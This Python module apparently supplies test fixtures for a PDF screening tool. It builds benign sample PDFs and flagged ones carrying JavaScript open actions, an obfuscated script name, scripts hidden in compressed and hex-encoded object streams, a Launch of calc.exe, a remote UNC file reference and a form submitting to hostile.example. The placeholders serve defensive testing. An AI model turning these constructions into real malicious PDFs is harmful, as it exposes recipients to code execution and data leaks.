"""PDFs as offices send them, and PDFs that do more than show their pages."""

import binascii
import zlib

PAGE = b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>>"
PAGES = b"<</Type /Pages /Count 1 /Kids [3 0 R]>>"


def pdf(catalogue=b"", *more, trailer=b"", page=PAGE):
    """A PDF of one empty page; ``more``: objects from number 4 on."""
    objects = (b"<</Type /Catalog /Pages 2 0 R %s>>" % catalogue, PAGES, page, *more)
    out, places = bytearray(b"%PDF-1.5\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer <</Root 1 0 R /Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out)


def stream(words, body):
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (words, len(body), body)


def packed_pdf(action, hexadecimal=False):
    """Catalogue, pages and the action lie in a packed stream of objects, which no one reads without unpacking it."""
    objects = [b"<</Type /Catalog /Pages 2 0 R /OpenAction 4 0 R>>", PAGES, PAGE, action]
    places = [sum(len(each) + 1 for each in objects[:number]) for number in range(len(objects))]
    index = b" ".join(b"%d %d" % (number, place) for number, place in enumerate(places, 1)) + b" "
    body = zlib.compress(index + b"\n".join(objects))
    names = b"/FlateDecode"
    if hexadecimal:
        body, names = binascii.hexlify(body) + b">", b"[/ASCIIHexDecode /FlateDecode]"
    kept = b"/Type /ObjStm /N %d /First %d /Filter %s" % (len(objects), len(index), names)
    out = bytearray(b"%PDF-1.5\n")
    holder = len(out)
    out += b"5 0 obj\n%s\nendobj\n" % stream(kept, body)
    start = len(out)
    rows = [(0, 0, 255), *((2, 5, number) for number in range(4)), (1, holder, 0), (1, start, 0)]
    table = b"".join(bytes([kind]) + place.to_bytes(2, "big") + bytes([last]) for kind, place, last in rows)
    out += b"6 0 obj\n%s\nendobj\n" % stream(b"/Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R", table)
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


GOOD = {
    "plain": pdf(),
    "opens at its first page": pdf(b"/OpenAction [3 0 R /Fit]"),
    "links to a page of the web": pdf(
        page=PAGE[:-2]
        + b"/Annots [<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A <</S /URI /URI (https://example.go.th)>>>>]>>"
    ),
    "packed": packed_pdf(b"<</S /GoTo /D [3 0 R /Fit]>>"),
    "packed twice": packed_pdf(b"<</S /GoTo /D [3 0 R /Fit]>>", hexadecimal=True),
}
SCRIPT, OPENS, ATTACHED, SENDS = "holds a program", "opens other files", "holds attached", "form that sends"
PROTECTED, DAMAGED = "protected", "damaged"
KEY = b"<" + b"5a" * 32 + b">"
BAD = {
    "script at opening": (pdf(b"/OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>"), SCRIPT),
    "script by its name": (pdf(b"/Names <</JavaScript <</Names [(a) 4 0 R]>>>>", b"<</S /JavaScript /JS (1)>>"), SCRIPT),
    "script in another spelling": (pdf(b"/OpenAction <</S /J#61vaScrip#74 /JS (1)>>"), SCRIPT),
    "script of a page": (pdf(page=PAGE[:-2] + b"/AA <</O <</S/JavaScript/JS(1)>>>>>>"), SCRIPT),
    "script in a packed object": (packed_pdf(b"<</S /JavaScript /JS (1)>>"), SCRIPT),
    "script in an object packed twice": (packed_pdf(b"<</S /JavaScript /JS (1)>>", hexadecimal=True), SCRIPT),
    "script of a form": (pdf(b"/AcroForm <</XFA (x)>>"), SCRIPT),
    "film": (pdf(b"/OpenAction <</S /Rendition /JS (1)>>"), SCRIPT),
    "program": (pdf(b"/OpenAction <</S /Launch /F (calc.exe)>>"), OPENS),
    "file of another computer": (pdf(b"/OpenAction <</S /GoToR /F (\\\\\\\\host\\\\file.pdf) /D [0 /Fit]>>"), OPENS),
    "attachment": (pdf(b"/Names <</EmbeddedFiles <</Names []>>>>"), ATTACHED),
    "form": (pdf(b"/OpenAction <</S /SubmitForm /F (https://hostile.example)>>"), SENDS),
    "restrictions": (pdf(b"", b"<</Filter /Standard /V 1 /R 2 /O %s /U %s /P -4>>" % (KEY, KEY), trailer=b"/Encrypt 4 0 R /ID [<01> <01>]"), PROTECTED),
    "no pages": (b"%PDF-1.7\n%%EOF", DAMAGED),
    "half": (GOOD["packed"][:150], DAMAGED),
}  # fmt: skip
